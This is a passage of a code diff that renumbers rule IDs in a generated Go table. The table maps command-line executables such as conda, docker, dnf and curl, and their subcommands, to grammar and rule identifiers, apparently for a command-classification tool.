 	{name: "busctl", grammar: []uint32{0x1c003a}, generic: []uint32{0x1c003a}, subs: nil, ruleKnown: false},
 	{name: "busybox", grammar: []uint32{0x1c003b}, generic: []uint32{0xb0009, 0xb000a, 0xb000c, 0x1c003b}, subs: nil, ruleKnown: true},
@@ -2101,8 +2112,8 @@ var generatedExeIndex = []genExe{
 	{name: "column", grammar: []uint32{0x23000b}, generic: []uint32{0xd0016, 0xd002b, 0x23000b}, subs: nil, ruleKnown: true},
 	{name: "comm", grammar: []uint32{0x150015}, generic: []uint32{0xd0016, 0xd002b, 0x150015}, subs: nil, ruleKnown: true},
 	{name: "command", grammar: []uint32{0x12001a}, generic: []uint32{0x6000c, 0xd0016, 0x12001a}, subs: nil, ruleKnown: true},
-	{name: "composer", grammar: []uint32{0x1f0049}, generic: []uint32{0xa000c, 0xa001b, 0x1f0049}, subs: nil, ruleKnown: true},
-	{name: "conda", grammar: []uint32{0x1f0044}, generic: []uint32{0xa000e, 0x1f0044}, subs: []genSub{{"--version", []uint32{0xa0019}}, {"activate", []uint32{0x1f0048}}, {"add", []uint32{0xa0009, 0xa001a}}, {"build", []uint32{0xa0019, 0x1f0048}}, {"cache", []uint32{0xa0019}}, {"check", []uint32{0xa0019}}, {"clean", []uint32{0x1f0048}}, {"compare", []uint32{0x1f0048}}, {"config", []uint32{0xa0019, 0x1f0047}}, {"create", []uint32{0xa001a, 0x1f0048}}, {"deactivate", []uint32{0x1f0048}}, {"debug", []uint32{0xa0019}}, {"develop", []uint32{0x1f0048}}, {"doctor", []uint32{0x1f0045}}, {"download", []uint32{0xa001a}}, {"env", []uint32{0xa0019, 0x1f0046, 0x1f0048}}, {"export", []uint32{0xa0019}}, {"freeze", []uint32{0xa0019}}, {"help", []uint32{0xa0019}}, {"index", []uint32{0xa0019}}, {"info", []uint32{0xa0019, 0x1f0045}}, {"init", []uint32{0xa001a, 0x1f0048}}, {"inspect", []uint32{0xa0019}}, {"install", []uint32{0xa0009, 0xa001a, 0x1f0048}}, {"list", []uint32{0xa0019, 0x1f0045}}, {"lock", []uint32{0xa0019}}, {"new", []uint32{0xa001a}}, {"notices", []uint32{0x1f0048}}, {"package", []uint32{0x1f0048}}, {"pip", []uint32{0xa001a}}, {"remove", []uint32{0xa001a, 0x1f0048}}, {"rename", []uint32{0x1f0048}}, {"repoquery", []uint32{0x1f0048}}, {"run", []uint32{0xa0019, 0x1f0048}}, {"search", []uint32{0xa0019, 0x1f0048}}, {"self-update", []uint32{0x1f0048}}, {"shell", []uint32{0xa0019, 0x1f0048}}, {"show", []uint32{0xa0019}}, {"sync", []uint32{0xa0019}}, {"tos", []uint32{0x1f0048}}, {"tree", []uint32{0xa0019}}, {"uninstall", []uint32{0xa001a, 0x1f0048}}, {"update", []uint32{0xa001a, 0x1f0048}}, {"upgrade", []uint32{0xa001a, 0x1f0048}}, {"venv", []uint32{0xa0019}}, {"version", []uint32{0xa0019}}, {"wheel", []uint32{0xa001a}}}, ruleKnown: true},
+	{name: "composer", grammar: []uint32{0x1f004b}, generic: []uint32{0xa000c, 0xa001b, 0x1f004b}, subs: nil, ruleKnown: true},
+	{name: "conda", grammar: []uint32{0x1f0046}, generic: []uint32{0xa000e, 0x1f0046}, subs: []genSub{{"--version", []uint32{0xa0019}}, {"activate", []uint32{0x1f004a}}, {"add", []uint32{0xa0009, 0xa001a}}, {"build", []uint32{0xa0019, 0x1f004a}}, {"cache", []uint32{0xa0019}}, {"check", []uint32{0xa0019}}, {"clean", []uint32{0x1f004a}}, {"compare", []uint32{0x1f004a}}, {"config", []uint32{0xa0019, 0x1f0049}}, {"create", []uint32{0xa001a, 0x1f004a}}, {"deactivate", []uint32{0x1f004a}}, {"debug", []uint32{0xa0019}}, {"develop", []uint32{0x1f004a}}, {"doctor", []uint32{0x1f0047}}, {"download", []uint32{0xa001a}}, {"env", []uint32{0xa0019, 0x1f0048, 0x1f004a}}, {"export", []uint32{0xa0019}}, {"freeze", []uint32{0xa0019}}, {"help", []uint32{0xa0019}}, {"index", []uint32{0xa0019}}, {"info", []uint32{0xa0019, 0x1f0047}}, {"init", []uint32{0xa001a, 0x1f004a}}, {"inspect", []uint32{0xa0019}}, {"install", []uint32{0xa0009, 0xa001a, 0x1f004a}}, {"list", []uint32{0xa0019, 0x1f0047}}, {"lock", []uint32{0xa0019}}, {"new", []uint32{0xa001a}}, {"notices", []uint32{0x1f004a}}, {"package", []uint32{0x1f004a}}, {"pip", []uint32{0xa001a}}, {"remove", []uint32{0xa001a, 0x1f004a}}, {"rename", []uint32{0x1f004a}}, {"repoquery", []uint32{0x1f004a}}, {"run", []uint32{0xa0019, 0x1f004a}}, {"search", []uint32{0xa0019, 0x1f004a}}, {"self-update", []uint32{0x1f004a}}, {"shell", []uint32{0xa0019, 0x1f004a}}, {"show", []uint32{0xa0019}}, {"sync", []uint32{0xa0019}}, {"tos", []uint32{0x1f004a}}, {"tree", []uint32{0xa0019}}, {"uninstall", []uint32{0xa001a, 0x1f004a}}, {"update", []uint32{0xa001a, 0x1f004a}}, {"upgrade", []uint32{0xa001a, 0x1f004a}}, {"venv", []uint32{0xa0019}}, {"version", []uint32{0xa0019}}, {"wheel", []uint32{0xa001a}}}, ruleKnown: true},
 	{name: "copilot", grammar: []uint32{0x6}, generic: []uint32{0x10, 0x10012}, subs: nil, ruleKnown: true},
 	{name: "cowsay", grammar: []uint32{0x1c0050}, generic: []uint32{0x1c0050}, subs: nil, ruleKnown: false},
 	{name: "cowthink", grammar: []uint32{0x1c0050}, generic: []uint32{0x1c0050}, subs: nil, ruleKnown: false},
@@ -2117,7 +2128,7 @@ var generatedExeIndex = []genExe{
 	{name: "csplit", grammar: []uint32{0x150058}, generic: []uint32{0x150058}, subs: nil, ruleKnown: false},
 	{name: "csrutil", grammar: nil, generic: []uint32{0x100030}, subs: nil, ruleKnown: true},
 	{name: "csvtool", grammar: []uint32{0x1c0055}, generic: []uint32{0x1c0055}, subs: []genSub{{"call", []uint32{0x1c0059}}, {"cat", []uint32{0x1c0056}}, {"col", []uint32{0x1c0057}}, {"collate", []uint32{0x1c0058}}, {"cols", []uint32{0x1c0057}}, {"columns", []uint32{0x1c0056}}, {"concat", []uint32{0x1c0056}}, {"drop", []uint32{0x1c0057}}, {"format", []uint32{0x1c0057}}, {"head", []uint32{0x1c0057}}, {"height", []uint32{0x1c0056}}, {"join", []uint32{0x1c0058}}, {"namedcol", []uint32{0x1c0057}}, {"namedcols", []uint32{0x1c0057}}, {"paste", []uint32{0x1c0056}}, {"pastecol", []uint32{0x1c0058}}, {"readable", []uint32{0x1c0056}}, {"replace", []uint32{0x1c0058}}, {"rows", []uint32{0x1c0056}}, {"set-cols", []uint32{0x1c0057}}, {"set-columns", []uint32{0x1c0057}}, {"set-rows", []uint32{0x1c0057}}, {"set_cols", []uint32{0x1c0057}}, {"set_columns", []uint32{0x1c0057}}, {"set_rows", []uint32{0x1c0057}}, {"setcols", []uint32{0x1c0057}}, {"setcolumns", []uint32{0x1c0057}}, {"setrows", []uint32{0x1c0057}}, {"square", []uint32{0x1c0056}}, {"sub", []uint32{0x1c0058}}, {"take", []uint32{0x1c0057}}, {"transpose", []uint32{0x1c0056}}, {"trim", []uint32{0x1c0057}}, {"width", []uint32{0x1c0056}}}, ruleKnown: false},
-	{name: "ctr", grammar: []uint32{0x14005b}, generic: []uint32{0x14005b}, subs: []genSub{{"c", []uint32{0x14005d}}, {"container", []uint32{0x14005d}}, {"containers", []uint32{0x14005d}}, {"content", []uint32{0x14005d}}, {"event", []uint32{0x14005e}}, {"events", []uint32{0x14005e}}, {"i", []uint32{0x14005d, 0x140061}}, {"image", []uint32{0x14005d, 0x140061}}, {"images", []uint32{0x14005d, 0x140061}}, {"leases", []uint32{0x14005d}}, {"namespace", []uint32{0x14005d}}, {"namespaces", []uint32{0x14005d}}, {"ns", []uint32{0x14005d}}, {"plugin", []uint32{0x14005d}}, {"plugins", []uint32{0x14005d}}, {"run", []uint32{0x14005f}}, {"snapshot", []uint32{0x14005d}}, {"snapshots", []uint32{0x14005d}}, {"t", []uint32{0x14005d, 0x140060}}, {"task", []uint32{0x14005d, 0x140060}}, {"tasks", []uint32{0x14005d, 0x140060}}, {"version", []uint32{0x14005c}}}, ruleKnown: false},
+	{name: "ctr", grammar: []uint32{0x14005d}, generic: []uint32{0x14005d}, subs: []genSub{{"c", []uint32{0x14005f}}, {"container", []uint32{0x14005f}}, {"containers", []uint32{0x14005f}}, {"content", []uint32{0x14005f}}, {"event", []uint32{0x140060}}, {"events", []uint32{0x140060}}, {"i", []uint32{0x14005f, 0x140063}}, {"image", []uint32{0x14005f, 0x140063}}, {"images", []uint32{0x14005f, 0x140063}}, {"leases", []uint32{0x14005f}}, {"namespace", []uint32{0x14005f}}, {"namespaces", []uint32{0x14005f}}, {"ns", []uint32{0x14005f}}, {"plugin", []uint32{0x14005f}}, {"plugins", []uint32{0x14005f}}, {"run", []uint32{0x140061}}, {"snapshot", []uint32{0x14005f}}, {"snapshots", []uint32{0x14005f}}, {"t", []uint32{0x14005f, 0x140062}}, {"task", []uint32{0x14005f, 0x140062}}, {"tasks", []uint32{0x14005f, 0x140062}}, {"version", []uint32{0x14005e}}}, ruleKnown: false},
 	{name: "cupsfilter", grammar: []uint32{0x1c005a}, generic: []uint32{0x1c005a}, subs: nil, ruleKnown: false},
 	{name: "curl", grammar: []uint32{0xe0000, 0x1e0002}, generic: []uint32{0x5000b, 0x5000d, 0x50014, 0xe000a, 0xe000b, 0xe000c, 0xe001a, 0xe001c, 0xf0011, 0x1e0002}, subs: nil, ruleKnown: true},
 	{name: "cursor-agent", grammar: []uint32{0x4}, generic: []uint32{0xe}, subs: nil, ruleKnown: true},
@@ -2150,11 +2161,11 @@ var generatedExeIndex = []genExe{
 	{name: "dmesg", grammar: []uint32{0x220023}, generic: []uint32{0x220023}, subs: nil, ruleKnown: false},
 	{name: "dmidecode", grammar: []uint32{0x1c0060}, generic: []uint32{0x1c0060}, subs: nil, ruleKnown: false},
 	{name: "dmsetup", grammar: []uint32{0x1c0061}, generic: []uint32{0x1c0061}, subs: []genSub{{"deps", []uint32{0x1c0062}}, {"help", []uint32{0x1c0062}}, {"info", []uint32{0x1c0062}}, {"ls", []uint32{0x1c0062}}, {"splitname", []uint32{0x1c0062}}, {"status", []uint32{0x1c0062}}, {"table", []uint32{0x1c0062}}, {"target-version", []uint32{0x1c0062}}, {"targets", []uint32{0x1c0062}}, {"udevcookies", []uint32{0x1c0062}}, {"version", []uint32{0x1c0062}}}, ruleKnown: false},
-	{name: "dnf", grammar: []uint32{0x1f0008}, generic: []uint32{0xa000d, 0xa000e, 0xa001c, 0x1f0008}, subs: []genSub{{"alias", []uint32{0x1f0009}}, {"autoremove", []uint32{0x1f000a}}, {"builddep", []uint32{0x1f000a}}, {"changelog", []uint32{0x1f0009}}, {"check", []uint32{0x1f0009}}, {"check-update", []uint32{0x1f0009}}, {"clean", []uint32{0x1f000a}}, {"config-manager", []uint32{0x1f0009}}, {"deplist", []uint32{0x1f0009}}, {"distro-sync", []uint32{0x1f000a}}, {"downgrade", []uint32{0x1f000a}}, {"download", []uint32{0x1f0009}}, {"dsync", []uint32{0x1f000a}}, {"erase", []uint32{0x1f000a}}, {"group", []uint32{0x1f0009}}, {"groupinstall", []uint32{0x1f000a}}, {"groups", []uint32{0x1f0009}}, {"history", []uint32{0x1f0009}}, {"in", []uint32{0x1f000a}}, {"info", []uint32{0x1f0009}}, {"install", []uint32{0x1f000a}}, {"list", []uint32{0x1f0009}}, {"localinstall", []uint32{0x1f000a}}, {"makecache", []uint32{0x1f0009}}, {"mark", []uint32{0x1f0009}}, {"module", []uint32{0x1f0009}}, {"offline-upgrade", []uint32{0x1f000a}}, {"provides", []uint32{0x1f0009}}, {"reinstall", []uint32{0x1f000a}}, {"remove", []uint32{0x1f000a}}, {"repoinfo", []uint32{0x1f0009}}, {"repolist", []uint32{0x1f0009}}, {"repoquery", []uint32{0x1f0009}}, {"rm", []uint32{0x1f000a}}, {"rq", []uint32{0x1f0009}}, {"search", []uint32{0x1f0009}}, {"shell", []uint32{0x1f000a}}, {"swap", []uint32{0x1f000a}}, {"system-upgrade", []uint32{0x1f000a}}, {"up", []uint32{0x1f000a}}, {"update", []uint32{0x1f000a}}, {"updateinfo", []uint32{0x1f0009}}, {"upgrade", []uint32{0x1f000a}}, {"upgrade-minimal", []uint32{0x1f000a}}, {"whatprovides", []uint32{0x1f0009}}}, ruleKnown: true},
+	{name: "dnf", grammar: []uint32{0x1f0009}, generic: []uint32{0xa000d, 0xa000e, 0xa001c, 0x1f0009}, subs: []genSub{{"alias", []uint32{0x1f000a}}, {"autoremove", []uint32{0x1f000b}}, {"builddep", []uint32{0x1f000b}}, {"changelog", []uint32{0x1f000a}}, {"check", []uint32{0x1f000a}}, {"check-update", []uint32{0x1f000a}}, {"clean", []uint32{0x1f000b}}, {"config-manager", []uint32{0x1f000a}}, {"deplist", []uint32{0x1f000a}}, {"distro-sync", []uint32{0x1f000b}}, {"downgrade", []uint32{0x1f000b}}, {"download", []uint32{0x1f000a}}, {"dsync", []uint32{0x1f000b}}, {"erase", []uint32{0x1f000b}}, {"group", []uint32{0x1f000a}}, {"groupinstall", []uint32{0x1f000b}}, {"groups", []uint32{0x1f000a}}, {"history", []uint32{0x1f000a}}, {"in", []uint32{0x1f000b}}, {"info", []uint32{0x1f000a}}, {"install", []uint32{0x1f000b}}, {"list", []uint32{0x1f000a}}, {"localinstall", []uint32{0x1f000b}}, {"makecache", []uint32{0x1f000a}}, {"mark", []uint32{0x1f000a}}, {"module", []uint32{0x1f000a}}, {"offline-upgrade", []uint32{0x1f000b}}, {"provides", []uint32{0x1f000a}}, {"reinstall", []uint32{0x1f000b}}, {"remove", []uint32{0x1f000b}}, {"repoinfo", []uint32{0x1f000a}}, {"repolist", []uint32{0x1f000a}}, {"repoquery", []uint32{0x1f000a}}, {"rm", []uint32{0x1f000b}}, {"rq", []uint32{0x1f000a}}, {"search", []uint32{0x1f000a}}, {"shell", []uint32{0x1f000b}}, {"swap", []uint32{0x1f000b}}, {"system-upgrade", []uint32{0x1f000b}}, {"up", []uint32{0x1f000b}}, {"update", []uint32{0x1f000b}}, {"updateinfo", []uint32{0x1f000a}}, {"upgrade", []uint32{0x1f000b}}, {"upgrade-minimal", []uint32{0x1f000b}}, {"whatprovides", []uint32{0x1f000a}}}, ruleKnown: true},
 	{name: "dnsmasq", grammar: []uint32{0x1c0063}, generic: []uint32{0x1c0063}, subs: nil, ruleKnown: false},
 	{name: "doas", grammar: []uint32{0x1c0064}, generic: []uint32{0x6000c, 0xb0009, 0xb000a, 0x1c0064}, subs: nil, ruleKnown: true},
-	{name: "docker", grammar: []uint32{0x20000, 0x140032}, generic: []uint32{0x140032}, subs: []genSub{{"attach", []uint32{0x20016, 0x14004f}}, {"build", []uint32{0x20016, 0x14004f}}, {"builder", []uint32{0x20005, 0x20015, 0x140041, 0x140050}}, {"buildx", []uint32{0x20005, 0x20015, 0x20017, 0x140041, 0x140050}}, {"commit", []uint32{0x20016}}, {"compose", []uint32{0x2000b, 0x2000c, 0x20015, 0x20017, 0x140046, 0x140047, 0x14004a, 0x140051, 0x140054}}, {"config", []uint32{0x20009, 0x20015, 0x14003a, 0x140041}}, {"container", []uint32{0x20005, 0x20006, 0x2000a, 0x2000f, 0x20010, 0x20011, 0x20012, 0x20015, 0x20017, 0x140036, 0x14003a, 0x14003c, 0x14003e, 0x140050, 0x140058}}, {"context", []uint32{0x20009, 0x20015, 0x14003a, 0x140041, 0x140042}}, {"cp", []uint32{0x20016, 0x140057}}, {"create", []uint32{0x2000f, 0x20010, 0x20011, 0x20012, 0x20016, 0x14004e}}, {"diff", []uint32{0x20013, 0x14003d}}, {"events", []uint32{0x20013, 0x14003d}}, {"exec", []uint32{0x2000f, 0x14004f}}, {"export", []uint32{0x20016, 0x140059}}, {"help", []uint32{0x20013}}, {"history", []uint32{0x20013, 0x14003d}}, {"image", []uint32{0x20005, 0x20008, 0x20015, 0x20017, 0x140038, 0x14003a, 0x14003f, 0x140050, 0x140054}}, {"images", []uint32{0x20013, 0x140037}}, {"import", []uint32{0x20016}}, {"info", []uint32{0x20013, 0x14003d}}, {"inspect", []uint32{0x20013, 0x140039}}, {"kill", []uint32{0x2000a}}, {"load", []uint32{0x20016, 0x14005a}}, {"login", []uint32{0x20013, 0x140056}}, {"logout", []uint32{0x140056}}, {"logs", []uint32{0x20013, 0x14003b}}, {"machine", []uint32{0x20009, 0x20015, 0x14003a, 0x140041}}, {"manifest", []uint32{0x20009, 0x20015, 0x140045}}, {"network", []uint32{0x20005, 0x20009, 0x20015, 0x20017, 0x14003a, 0x140041}}, {"node", []uint32{0x20009, 0x20015, 0x14003a, 0x140041}}, {"pause", []uint32{0x2000a}}, {"plugin", []uint32{0x20009, 0x20015, 0x14003a, 0x140041}}, {"pod", []uint32{0x20005, 0x20015, 0x14003a, 0x14003c, 0x140041}}, {"port", []uint32{0x20013, 0x14003d}}, {"ps", []uint32{0x20013, 0x140035}}, {"pull", []uint32{0x20016, 0x140053}}, {"push", []uint32{0x20016, 0x140053}}, {"rename", []uint32{0x20016}}, {"restart", []uint32{0x20016, 0x14004f}}, {"rm", []uint32{0x20006}}, {"rmi", []uint32{0x20007}}, {"run", []uint32{0x2000f, 0x20010, 0x20011, 0x20012, 0x14004e}}, {"save", []uint32{0x20016, 0x140059}}, {"search", []uint32{0x20013, 0x140044}}, {"secret", []uint32{0x20009, 0x20015, 0x140041, 0x140043}}, {"service", []uint32{0x20009, 0x20015, 0x14003a, 0x140041}}, {"stack", []uint32{0x20009, 0x20015, 0x140041}}, {"start", []uint32{0x20016, 0x14004f}}, {"stats", []uint32{0x20013, 0x14003d}}, {"stop", []uint32{0x2000a}}, {"swarm", []uint32{0x20009}}, {"system", []uint32{0x20004, 0x20014, 0x140040}}, {"tag", []uint32{0x20016}}, {"top", []uint32{0x20013, 0x14003d}}, {"unpause", []uint32{0x20016}}, {"update", []uint32{0x20016}}, {"version", []uint32{0x20013, 0x14003d}}, {"volume", []uint32{0x20003, 0x20015, 0x20017, 0x14003a, 0x140041}}, {"wait", []uint32{0x20016}}}, ruleKnown: true},
-	{name: "docker-compose", grammar: []uint32{0x20002, 0x14004c}, generic: []uint32{0x14004c}, subs: []genSub{{"build", []uint32{0x20019, 0x140052}}, {"config", []uint32{0x20018, 0x14004b}}, {"convert", []uint32{0x14004b}}, {"create", []uint32{0x20019, 0x140052}}, {"down", []uint32{0x2000d, 0x2000e}}, {"exec", []uint32{0x140052}}, {"images", []uint32{0x20018, 0x140048}}, {"kill", []uint32{0x2000e}}, {"logs", []uint32{0x20018, 0x140049}}, {"ls", []uint32{0x20018, 0x140048}}, {"port", []uint32{0x20018, 0x140048}}, {"ps", []uint32{0x20018, 0x140048}}, {"pull", []uint32{0x20019, 0x140055}}, {"push", []uint32{0x20019, 0x140055}}, {"restart", []uint32{0x20019, 0x140052}}, {"rm", []uint32{0x2000d, 0x2000e}}, {"run", []uint32{0x140052}}, {"start", []uint32{0x20019, 0x140052}}, {"stop", []uint32{0x2000e}}, {"top", []uint32{0x20018, 0x140048}}, {"up", []uint32{0x20019, 0x140052}}, {"version", []uint32{0x20018, 0x140048}}}, ruleKnown: true},
+	{name: "docker", grammar: []uint32{0x20000, 0x140034}, generic: []uint32{0x140034}, subs: []genSub{{"attach", []uint32{0x20016, 0x140051}}, {"build", []uint32{0x20016, 0x140051}}, {"builder", []uint32{0x20005, 0x20015, 0x140043, 0x140052}}, {"buildx", []uint32{0x20005, 0x20015, 0x20017, 0x140043, 0x140052}}, {"commit", []uint32{0x20016}}, {"compose", []uint32{0x2000b, 0x2000c, 0x20015, 0x20017, 0x140048, 0x140049, 0x14004c, 0x140053, 0x140056}}, {"config", []uint32{0x20009, 0x20015, 0x14003c, 0x140043}}, {"container", []uint32{0x20005, 0x20006, 0x2000a, 0x2000f, 0x20010, 0x20011, 0x20012, 0x20015, 0x20017, 0x140038, 0x14003c, 0x14003e, 0x140040, 0x140052, 0x14005a}}, {"context", []uint32{0x20009, 0x20015, 0x14003c, 0x140043, 0x140044}}, {"cp", []uint32{0x20016, 0x140059}}, {"create", []uint32{0x2000f, 0x20010, 0x20011, 0x20012, 0x20016, 0x140050}}, {"diff", []uint32{0x20013, 0x14003f}}, {"events", []uint32{0x20013, 0x14003f}}, {"exec", []uint32{0x2000f, 0x140051}}, {"export", []uint32{0x20016, 0x14005b}}, {"help", []uint32{0x20013}}, {"history", []uint32{0x20013, 0x14003f}}, {"image", []uint32{0x20005, 0x20008, 0x20015, 0x20017, 0x14003a, 0x14003c, 0x140041, 0x140052, 0x140056}}, {"images", []uint32{0x20013, 0x140039}}, {"import", []uint32{0x20016}}, {"info", []uint32{0x20013, 0x14003f}}, {"inspect", []uint32{0x20013, 0x14003b}}, {"kill", []uint32{0x2000a}}, {"load", []uint32{0x20016, 0x14005c}}, {"login", []uint32{0x20013, 0x140058}}, {"logout", []uint32{0x140058}}, {"logs", []uint32{0x20013, 0x14003d}}, {"machine", []uint32{0x20009, 0x20015, 0x14003c, 0x140043}}, {"manifest", []uint32{0x20009, 0x20015, 0x140047}}, {"network", []uint32{0x20005, 0x20009, 0x20015, 0x20017, 0x14003c, 0x140043}}, {"node", []uint32{0x20009, 0x20015, 0x14003c, 0x140043}}, {"pause", []uint32{0x2000a}}, {"plugin", []uint32{0x20009, 0x20015, 0x14003c, 0x140043}}, {"pod", []uint32{0x20005, 0x20015, 0x14003c, 0x14003e, 0x140043}}, {"port", []uint32{0x20013, 0x14003f}}, {"ps", []uint32{0x20013, 0x140037}}, {"pull", []uint32{0x20016, 0x140055}}, {"push", []uint32{0x20016, 0x140055}}, {"rename", []uint32{0x20016}}, {"restart", []uint32{0x20016, 0x140051}}, {"rm", []uint32{0x20006}}, {"rmi", []uint32{0x20007}}, {"run", []uint32{0x2000f, 0x20010, 0x20011, 0x20012, 0x140050}}, {"save", []uint32{0x20016, 0x14005b}}, {"search", []uint32{0x20013, 0x140046}}, {"secret", []uint32{0x20009, 0x20015, 0x140043, 0x140045}}, {"service", []uint32{0x20009, 0x20015, 0x14003c, 0x140043}}, {"stack", []uint32{0x20009, 0x20015, 0x140043}}, {"start", []uint32{0x20016, 0x140051}}, {"stats", []uint32{0x20013, 0x14003f}}, {"stop", []uint32{0x2000a}}, {"swarm", []uint32{0x20009}}, {"system", []uint32{0x20004, 0x20014, 0x140042}}, {"tag", []uint32{0x20016}}, {"top", []uint32{0x20013, 0x14003f}}, {"unpause", []uint32{0x20016}}, {"update", []uint32{0x20016}}, {"version", []uint32{0x20013, 0x14003f}}, {"volume", []uint32{0x20003, 0x20015, 0x20017, 0x14003c, 0x140043}}, {"wait", []uint32{0x20016}}}, ruleKnown: true},
+	{name: "docker-compose", grammar: []uint32{0x20002, 0x14004e}, generic: []uint32{0x14004e}, subs: []genSub{{"build", []uint32{0x20019, 0x140054}}, {"config", []uint32{0x20018, 0x14004d}}, {"convert", []uint32{0x14004d}}, {"create", []uint32{0x20019, 0x140054}}, {"down", []uint32{0x2000d, 0x2000e}}, {"exec", []uint32{0x140054}}, {"images", []uint32{0x20018, 0x14004a}}, {"kill", []uint32{0x2000e}}, {"logs", []uint32{0x20018, 0x14004b}}, {"ls", []uint32{0x20018, 0x14004a}}, {"port", []uint32{0x20018, 0x14004a}}, {"ps", []uint32{0x20018, 0x14004a}}, {"pull", []uint32{0x20019, 0x140057}}, {"push", []uint32{0x20019, 0x140057}}, {"restart", []uint32{0x20019, 0x140054}}, {"rm", []uint32{0x2000d, 0x2000e}}, {"run", []uint32{0x140054}}, {"start", []uint32{0x20019, 0x140054}}, {"stop", []uint32{0x2000e}}, {"top", []uint32{0x20018, 0x14004a}}, {"up", []uint32{0x20019, 0x140054}}, {"version", []uint32{0x20018, 0x14004a}}}, ruleKnown: true},
 	{name: "docker-credential-acr-env", grammar: []uint32{0x21002b}, generic: []uint32{0x21002b}, subs: []genSub{{"erase", []uint32{0x21002e}}, {"get", []uint32{0x21002c}}, {"list", []uint32{0x21002d}}, {"store", []uint32{0x21002e}}, {"version", []uint32{0x21002d}}}, ruleKnown: false},
 	{name: "docker-credential-desktop", grammar: []uint32{0x21002b}, generic: []uint32{0x21002b}, subs: []genSub{{"erase", []uint32{0x21002e}}, {"get", []uint32{0x21002c}}, {"list", []uint32{0x21002d}}, {"store", []uint32{0x21002e}}, {"version", []uint32{0x21002d}}}, ruleKnown: false},
 	{name: "docker-credential-ecr-login", grammar: []uint32{0x21002b}, generic: []uint32{0x21002b}, subs: []genSub{{"erase", []uint32{0x21002e}}, {"get", []uint32{0x21002c}}, {"list", []uint32{0x21002d}}, {"store", []uint32{0x21002e}}, {"version", []uint32{0x21002d}}}, ruleKnown: false},
@@ -2164,11 +2175,11 @@ var generatedExeIndex = []genExe{
 	{name: "docker-credential-pass", grammar: []uint32{0x21002b}, generic: []uint32{0x21002b}, subs: []genSub{{"erase", []uint32{0x21002e}}, {"get", []uint32{0x21002c}}, {"list", []uint32{0x21002d}}, {"store", []uint32{0x21002e}}, {"version", []uint32{0x21002d}}}, ruleKnown: false},
 	{name: "docker-credential-secretservice", grammar: []uint32{0x21002b}, generic: []uint32{0x21002b}, subs: []genSub{{"erase", []uint32{0x21002e}}, {"get", []uint32{0x21002c}}, {"list", []uint32{0x21002d}}, {"store", []uint32{0x21002e}}, {"version", []uint32{0x21002d}}}, ruleKnown: false},
 	{name: "docker-credential-wincred", grammar: []uint32{0x21002b}, generic: []uint32{0x21002b}, subs: []genSub{{"erase", []uint32{0x21002e}}, {"get", []uint32{0x21002c}}, {"list", []uint32{0x21002d}}, {"store", []uint32{0x21002e}}, {"version", []uint32{0x21002d}}}, ruleKnown: false},
-	{name: "doctl", grammar: []uint32{0x13004f, 0x130050, 0x130051, 0x130052, 0x130053}, generic: []uint32{0x10012, 0x13004f, 0x130050, 0x130051, 0x130052, 0x130053}, subs: []genSub{{"account", []uint32{0x130054}}, {"auth", []uint32{0x130055}}, {"balance", []uint32{0x130054}}, {"compute", []uint32{0x130059}}, {"invoice", []uint32{0x130054}}, {"k", []uint32{0x130056}}, {"k8s", []uint32{0x130056}}, {"kubernetes", []uint32{0x130056}}, {"r", []uint32{0x130057}}, {"reg", []uint32{0x130057}}, {"registry", []uint32{0x130057}}, {"version", []uint32{0x130058}}}, ruleKnown: true},
+	{name: "doctl", grammar: []uint32{0x130054, 0x130055, 0x130056, 0x130057, 0x130058}, generic: []uint32{0x10012, 0x130054, 0x130055, 0x130056, 0x130057, 0x130058}, subs: []genSub{{"account", []uint32{0x130059}}, {"auth", []uint32{0x13005a}}, {"balance", []uint32{0x130059}}, {"compute", []uint32{0x13005e}}, {"invoice", []uint32{0x130059}}, {"k", []uint32{0x13005b}}, {"k8s", []uint32{0x13005b}}, {"kubernetes", []uint32{0x13005b}}, {"r", []uint32{0x13005c}}, {"reg", []uint32{0x13005c}}, {"registry", []uint32{0x13005c}}, {"version", []uint32{0x13005d}}}, ruleKnown: true},
 	{name: "dos2unix", grammar: []uint32{0x23000f}, generic: []uint32{0x23000f}, subs: nil, ruleKnown: false},
 	{name: "dosbox", grammar: []uint32{0x1c000c, 0x1c0065}, generic: []uint32{0x1c0065}, subs: nil, ruleKnown: false},
 	{name: "dotnet", grammar: []uint32{0x24004a}, generic: []uint32{0xa0005, 0xa000c, 0xa001b, 0x24004a}, subs: nil, ruleKnown: true},
-	{name: "dpkg", grammar: []uint32{0x1f0003}, generic: []uint32{0x1f0003}, subs: nil, ruleKnown: false},
+	{name: "dpkg", grammar: []uint32{0x1f0004}, generic: []uint32{0x1f0004}, subs: nil, ruleKnown: false},
 	{name: "dropdb", grammar: nil, generic: []uint32{0x30017}, subs: nil, ruleKnown: true},
 	{name: "dropuser", grammar: nil, generic: []uint32{0x30017}, subs: nil, ruleKnown: true},
 	{name: "dstat", grammar: []uint32{0x1c0066}, generic: []uint32{0x1c0066}, subs: nil, ruleKnown: false},
@@ -2220,10 +2231,10 @@ var generatedExeIndex = []genExe{
 	{name: "firewall-cmd", grammar: nil, generic: []uint32{0x10002d}, subs: nil, ruleKnown: true},
 	{name: "fish", grammar: []uint32{0x1c007b}, generic: []uint32{0xb0009, 0xb000a, 0xb000b, 0xb000c, 0x1c007b}, subs: nil, ruleKnown: true},
 	{name: "flake8", grammar: []uint32{0x240038}, generic: []uint32{0xd0025, 0x240038}, subs: nil, ruleKnown: true},
-	{name: "flatpak", grammar: []uint32{0x1f001c}, generic: []uint32{0xa000d, 0xa000e, 0xa001c, 0x1f001c}, subs: []genSub{{"build", []uint32{0x1f001e}}, {"build-bundle", []uint32{0x1f001e}}, {"build-commit-from", []uint32{0x1f001e}}, {"build-export", []uint32{0x1f001e}}, {"build-finish", []uint32{0x1f001e}}, {"build-import-bundle", []uint32{0x1f001e}}, {"build-init", []uint32{0x1f001e}}, {"build-sign", []uint32{0x1f001e}}, {"build-update-repo", []uint32{0x1f001e}}, {"config", []uint32{0x1f001d}}, {"create-usb", []uint32{0x1f001e}}, {"document-export", []uint32{0x1f001e}}, {"document-unexport", []uint32{0x1f001e}}, {"documents", []uint32{0x1f001d}}, {"enter", []uint32{0x1f001e}}, {"history", []uint32{0x1f001d}}, {"info", []uint32{0x1f001d}}, {"install", []uint32{0x1f001e}}, {"kill", []uint32{0x1f001e}}, {"list", []uint32{0x1f001d}}, {"make-current", []uint32{0x1f001e}}, {"mask", []uint32{0x1f001d}}, {"override", []uint32{0x1f001e}}, {"permission-remove", []uint32{0x1f001e}}, {"permission-reset", []uint32{0x1f001e}}, {"permission-set", []uint32{0x1f001e}}, {"permission-show", []uint32{0x1f001d}}, {"permissions", 